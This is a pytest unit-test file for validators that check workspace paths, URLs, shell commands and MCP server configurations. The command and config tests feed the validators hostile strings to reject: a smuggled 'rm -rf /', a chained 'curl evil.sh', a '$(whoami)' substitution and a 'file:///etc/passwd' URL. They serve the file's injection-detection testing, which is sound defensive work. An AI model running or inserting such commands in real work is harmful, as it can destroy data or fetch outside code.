"""Unit tests for validators."""

import pytest

from models.bundle import McpServerConfig
from utils.validators import (
    validate_command,
    validate_mcp_server_config,
    validate_url,
    validate_workspace_root,
)


class TestValidateWorkspaceRoot:
    """Tests for workspace path validation."""

    def test_valid_existing_path(self, tmp_path):
        """Test validation of existing directory."""
        is_valid, error = validate_workspace_root(str(tmp_path))
        assert is_valid is True
        assert error == ""

    def test_empty_path(self):
        is_valid, error = validate_workspace_root("  ")
        assert is_valid is False
        assert "empty" in error.lower()

    def test_nonexistent_path(self, tmp_path):
        is_valid, error = validate_workspace_root(str(tmp_path / "missing"))
        assert is_valid is False
        assert "not exist" in error.lower()

    def test_file_instead_of_directory(self, tmp_path):
        """Test validation when path is a file, not a directory."""
        test_file = tmp_path / "test.txt"
        test_file.write_text("test")
        is_valid, error = validate_workspace_root(str(test_file))
        assert is_valid is False
        assert "not a directory" in error.lower()

    def test_expands_environment_variables(self, tmp_path, monkeypatch):
        monkeypatch.setenv("TK_TEST_ROOT", str(tmp_path))
        is_valid, _ = validate_workspace_root("$TK_TEST_ROOT")
        assert is_valid is True


class TestValidateURL:
    """Tests for URL validation."""

    @pytest.mark.parametrize("url", ["http://localhost:3000", "https://example.com/mcp"])
    def test_valid_urls(self, url):
        assert validate_url(url) == (True, "")

    def test_missing_scheme(self):
        is_valid, error = validate_url("example.com")
        assert is_valid is False
        assert "scheme" in error.lower()

    def test_invalid_scheme(self):
        """Test validation of URL with invalid scheme."""
        is_valid, error = validate_url("ftp://example.com")
        assert is_valid is False
        assert "http" in error.lower()


class TestValidateCommand:
    """Tests for command validation."""

    def test_valid_command(self):
        assert validate_command("npx", ["-y", "@modelcontextprotocol/server-github"]) == (True, "")

    def test_command_injection_semicolon(self):
        """Test detection of command injection with semicolon."""
        is_valid, error = validate_command("npx; rm -rf /", [])
        assert is_valid is False
        assert "dangerous" in error.lower()

    def test_command_injection_in_args(self):
        is_valid, error = validate_command("npx", ["server && curl evil.sh"])
        assert is_valid is False
        assert "injection" in error.lower()

    def test_command_substitution_dollar(self):
        is_valid, error = validate_command("npx", ["$(whoami)"])
        assert is_valid is False

    def test_non_string_argument(self):
        is_valid, error = validate_command("npx", [42])
        assert is_valid is False
        assert "string" in error.lower()


class TestValidateMcpServerConfig:
    """Imported MCP servers must be launchable and free of shell syntax."""

    def test_stdio_server(self):
        assert validate_mcp_server_config(McpServerConfig(command="uvx", args=["mcp-server-git"]))[0] is True

    def test_remote_server(self):
        assert validate_mcp_server_config(McpServerConfig(url="https://api.example.com/mcp"))[0] is True

    def test_remote_server_with_bad_url(self):
        assert validate_mcp_server_config(McpServerConfig(url="file:///etc/passwd"))[0] is False

    def test_server_without_command_or_url(self):
        is_valid, error = validate_mcp_server_config(McpServerConfig())
        assert is_valid is False
        assert "command or a url" in error
